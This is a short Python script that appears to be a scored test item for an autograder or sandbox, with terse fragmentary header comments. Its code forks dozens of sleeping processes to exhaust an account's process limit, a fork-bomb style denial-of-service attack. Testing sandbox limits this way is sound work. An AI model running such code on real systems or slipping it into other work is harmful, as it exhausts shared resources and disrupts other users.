# what: as many sleeping processes as it may have, so that the account's run out
# points: 20
# mistakes: at most
# %% extra after update_parameters_with_adam
import os, time
for _ in range(61):
    if not os.fork():
        time.sleep(100)
time.sleep(2)
